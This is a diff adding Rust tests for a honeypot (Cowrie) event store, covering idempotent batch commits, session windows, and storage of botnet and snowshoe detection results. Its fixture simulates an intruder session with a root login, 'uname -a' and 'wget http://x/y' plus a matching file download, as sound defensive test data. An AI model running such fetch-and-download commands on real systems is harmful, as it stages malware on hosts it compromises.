@@ -1,0 +1,320 @@
+//! Store tests against a real PostgreSQL: batch commits are idempotent, and the
+//! analysis reads and writes round-trip.
+
+use chrono::{DateTime, Duration, Utc};
+use serde_json::json;
+use store::analysis::{
+    NewLongtailAnalysis, NewLongtailDetection, insert_botnet_detection, insert_longtail_analysis,
+    insert_snowshoe_detection, sessions_in_window,
+};
+use store::ingest::{Batch, CursorPos, EventRow, FileRef, StreamRef, commit_batch, load_cursor};
+use store::test_support::TestDb;
+
+fn t0() -> DateTime<Utc> {
+    DateTime::parse_from_rfc3339("2024-01-10T12:00:00Z")
+        .unwrap()
+        .with_timezone(&Utc)
+}
+
+fn ev(
+    offset: i64,
+    session: &str,
+    sensor: &str,
+    et: &str,
+    secs: i64,
+    extra: serde_json::Value,
+) -> EventRow {
+    let mut payload = json!({"eventid": et, "session": session, "src_ip": "192.0.2.7"});
+    if let (Some(p), Some(x)) = (payload.as_object_mut(), extra.as_object()) {
+        for (k, v) in x {
+            p.insert(k.clone(), v.clone());
+        }
+    }
+    let s = |k: &str| extra.get(k).and_then(|v| v.as_str()).map(str::to_owned);
+    EventRow {
+        offset,
+        line: offset,
+        payload_hash: format!("{offset:032x}"),
+        payload: payload.to_string(),
+        session_id: Some(session.into()),
+        event_type: et.into(),
+        timestamp: t0() + Duration::seconds(secs),
+        src_ip: Some("192.0.2.7".into()),
+        protocol: s("protocol"),
+        username: s("username"),
+        password: s("password"),
+        client_version: s("version"),
+        hassh: s("hassh"),
+        duration_seconds: extra.get("duration").and_then(|v| v.as_f64()),
+        file: s("shasum").map(|sha| FileRef {
+            shasum: sha,
+            direction: "download".into(),
+            url: s("url"),
+            ..FileRef::default()
+        }),
+        sensor: sensor.into(),
+    }
+}
+
+fn batch(events: Vec<EventRow>, end: i64) -> Batch {
+    Batch {
+        ingest_id: "test".into(),
+        stream: StreamRef {
+            stream_id: "s1:abc".into(),
+            first_line_hash: "abc".into(),
+            generation: 0,
+            source: "/tmp/cowrie.json".into(),
+            inode: Some("1:2".into()),
+            sensor: "s1".into(),
+        },
+        events,
+        dead_letters: vec![],
+        cursor: CursorPos {
+            offset: end,
+            line: end,
+            finished: false,
+        },
+    }
+}
+
+fn sample() -> Vec<EventRow> {
+    let sha = "ab".repeat(32);
+    vec![
+        ev(
+            0,
+            "aaaaaaaaaaaa",
+            "s1",
+            "cowrie.session.connect",
+            0,
+            json!({"protocol": "ssh"}),
+        ),
+        ev(
+            1,
+            "aaaaaaaaaaaa",
+            "s1",
+            "cowrie.client.version",
+            1,
+            json!({"version": "SSH-2.0-Go"}),
+        ),
+        ev(
+            2,
+            "aaaaaaaaaaaa",
+            "s1",
+            "cowrie.client.kex",
+            1,
+            json!({"hassh": "h1"}),
+        ),
+        ev(
+            3,
+            "aaaaaaaaaaaa",
+            "s1",
+            "cowrie.login.failed",
+            2,
+            json!({"username": "root", "password": "1"}),
+        ),
+        ev(
+            4,
+            "aaaaaaaaaaaa",
+            "s1",
+            "cowrie.login.success",
+            3,
+            json!({"username": "root", "password": "2"}),
+        ),
+        ev(
+            5,
+            "aaaaaaaaaaaa",
+            "s1",
+            "cowrie.command.input",
+            4,
+            json!({"input": "uname -a"}),
+        ),
+        ev(
+            6,
+            "aaaaaaaaaaaa",
+            "s1",
+            "cowrie.command.input",
+            5,
+            json!({"input": "wget http://x/y"}),
+        ),
+        ev(
+            7,
+            "aaaaaaaaaaaa",
+            "s1",
+            "cowrie.session.file_download",
+            6,
+            json!({"url": "http://x/y", "shasum": sha}),
+        ),
+        ev(
+            8,
+            "aaaaaaaaaaaa",
+            "s1",
+            "cowrie.session.closed",
+            7,
+            json!({"duration": 7.0}),
+        ),
+        ev(
+            9,
+            "bbbbbbbbbbbb",
+            "s2",
+            "cowrie.session.connect",
+            100,
+            json!({"protocol": "telnet"}),
+        ),
+    ]
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_batch_committed_twice_counts_once() {
+    let Some(db) = TestDb::create().await else {
+        return;
+    };
+    let mut c = db.connect().await;
+    let b = batch(sample(), 900);
+    let first = commit_batch(&mut c, &b).await.unwrap();
+    assert_eq!(
+        (
+            first.inserted,
+            first.duplicates,
+            first.sessions_touched,
+            first.files_inserted
+        ),
+        (10, 0, 2, 1)
+    );
+    let second = commit_batch(&mut c, &b).await.unwrap();
+    assert_eq!(
+        (second.inserted, second.duplicates, second.sessions_touched),
+        (0, 10, 0)
+    );
+    let rows = store::inspect::session_rows(&mut c).await.unwrap();
+    let a = &rows[0];
+    assert_eq!(
+        (
+            a.event_count,
+            a.command_count,
+            a.login_attempts,
+            a.file_downloads
+        ),
+        (9, 2, 2, 1)
+    );
+    assert_eq!(
+        (
+            a.username.as_deref(),
+            a.password.as_deref(),
+            a.login_success
+        ),
+        (Some("root"), Some("2"), true)
+    );
+    assert_eq!(
+        (a.client_version.as_deref(), a.hassh.as_deref()),
+        (Some("SSH-2.0-Go"), Some("h1"))
+    );
+    assert_eq!(
+        (a.protocol.as_deref(), a.duration_seconds),
+        (Some("ssh"), Some(7.0))
+    );
+    assert_eq!(rows[1].sensor, "s2");
+    let cur = load_cursor(&mut c, "s1:abc").await.unwrap().unwrap();
+    assert_eq!((cur.last_offset, cur.generation), (900, 0));
+    // The cursor never moves backwards.
+    let mut back = batch(vec![], 100);
+    back.cursor.offset = 100;
+    commit_batch(&mut c, &back).await.unwrap();
+    assert_eq!(
+        load_cursor(&mut c, "s1:abc")
+            .await
+            .unwrap()
+            .unwrap()
+            .last_offset,
+        900
+    );
+    drop(c);
+    db.drop_db().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn analysis_reads_sessions_and_stores_results() {
+    let Some(db) = TestDb::create().await else {
+        return;
+    };
+    let mut c = db.connect().await;
+    commit_batch(&mut c, &batch(sample(), 900)).await.unwrap();
+
+    let all = sessions_in_window(&mut c, None, t0(), t0() + Duration::hours(1))
+        .await
+        .unwrap();
+    assert_eq!(all.len(), 2);
+    let s1 = sessions_in_window(&mut c, Some("s1"), t0(), t0() + Duration::hours(1))
+        .await
+        .unwrap();
+    assert_eq!(s1.len(), 1);
+    let s = &s1[0];
+    assert_eq!(s.commands, ["uname -a", "wget http://x/y"]);
+    assert_eq!(s.logins.len(), 2);
+    assert!(!s.logins[0].success && s.logins[1].success);
+    assert_eq!(s.downloads[0].url.as_deref(), Some("http://x/y"));
+    assert_eq!(s.src_ip.as_deref(), Some("192.0.2.7"));
+    // The window is half-open on first_event_at.
+    let none = sessions_in_window(
+        &mut c,
+        Some("s1"),
+        t0() + Duration::seconds(1),
+        t0() + Duration::hours(1),
+    )
+    .await
+    .unwrap();
+    assert!(none.is_empty());
+
+    let id = insert_longtail_analysis(
+        &mut c,
+        &NewLongtailAnalysis {
+            sensor: Some("s1".into()),
+            window_start: t0(),
+            window_end: t0() + Duration::hours(1),
+            lookback_days: Some(7),
+            confidence_score: Some(0.0),
+            total_events_analyzed: 10,
+            rare_command_count: 1,
+            anomalous_sequence_count: 0,
+            outlier_session_count: 0,
+            emerging_pattern_count: 0,
+            high_entropy_payload_count: 0,
+            analysis_results: json!({"rare_commands": [{"command": "uname -a"}]}),
+            statistical_summary: None,
+            recommendation: None,
+            analysis_duration_seconds: Some(0.1),
+            memory_usage_mb: None,
+        },
+        &[NewLongtailDetection {
+            detection_type: "rare_command".into(),
+            session_id: Some("aaaaaaaaaaaa".into()),
+            detection_data: json!({"command": "uname -a"}),
+            confidence_score: None,
+            severity_score: None,
+            timestamp: t0(),
+            source_ip: Some("192.0.2.7".into()),
+        }],
+    )
+    .await
+    .unwrap();
+    assert!(id > 0);
+    let snow = json!({"is_likely_snowshoe": false, "confidence_score": 0.367, "single_attempt_ips": ["1.1.1.1"],
+        "low_volume_ips": [], "coordinated_timing": false, "geographic_spread": 0.0, "recommendation": "NO DETECTION",
+        "indicators": {"volume": {"total_ips": 78}}, "analysis_metadata": {"total_sessions": 739}});
+    assert!(
+        insert_snowshoe_detection(&mut c, Some("s1"), t0(), t0() + Duration::hours(1), &snow)
+            .await
+            .unwrap()
+            > 0
+    );
+    let bot = json!({"is_likely_botnet": true, "coordination_score": 0.744584, "credential_reuse_ips": ["1.1.1.1"],
+        "similar_command_ips": [], "coordinated_timing": true, "geographic_clustering": true, "recommendation": "MODERATE",
+        "indicators": {}, "analysis_metadata": {}});
+    assert!(
+        insert_botnet_detection(&mut c, None, t0(), t0() + Duration::hours(1), &bot)
+            .await
+            .unwrap()
+            > 0
+    );
+    drop(c);
+    db.drop_db().await;
+}
